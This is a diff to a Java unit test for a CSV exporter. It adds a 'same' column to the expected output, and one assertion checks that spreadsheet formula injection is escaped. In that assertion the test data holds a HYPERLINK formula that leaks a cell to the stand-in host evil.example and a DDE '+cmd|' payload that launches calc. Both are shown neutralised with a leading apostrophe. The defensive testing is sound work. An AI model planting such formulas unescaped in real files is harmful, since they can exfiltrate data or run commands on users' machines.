@@ -22,14 +22,14 @@ class CsvExporterTest {
         new CsvExporter().write(SampleDeck.validated(List.of(SampleDeck.TCP, SampleDeck.UDP, SampleDeck.CAFE)), out);
 
         assertThat(out.toString()).isEqualTo(String.join("\r\n",
-                "term,definition,level,aliases,tags,example,category,id,related",
+                "term,definition,level,aliases,tags,example,category,id,related,same",
                 "TCP,\"Transmission Control Protocol, a reliable byte stream.\nStarts with a handshake.\",beginner,"
                         + "Transmission Control Protocol,networking;protocols::transport,\"SYN, SYN-ACK, ACK\","
-                        + "networking,tcp,udp",
+                        + "networking,tcp,udp,",
                 "UDP,\"Datagrams: no \"\"delivery\"\" promise, no order (&amp; stays as typed).\",intermediate,,"
-                        + "networking,,networking,udp,tcp",
+                        + "networking,,networking,udp,tcp,",
                 "Café,\"1. Coffee.\n- Not a list.\n\n> Not a quote either.\",intermediate,Caffè;Kaffee,drinks,,,"
-                        + "cafe,",
+                        + "cafe,,",
                 ""));
     }
 
@@ -42,7 +42,7 @@ class CsvExporterTest {
         new CsvExporter().write(SampleDeck.validated(List.of(formula)), out);
         List<String> cells = CSVParser.parse(out.toString(), CSVFormat.RFC4180).getRecords().get(1).toList();
         assertThat(cells).containsExactly("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
-                "'+cmd|' /C calc'!A0", "beginner", "'-2+3", "''quoted", "Tab first", "'@SUM(1+1)", "formula", "");
+                "'+cmd|' /C calc'!A0", "beginner", "'-2+3", "''quoted", "Tab first", "'@SUM(1+1)", "formula", "", "");
     }
 
     @Test
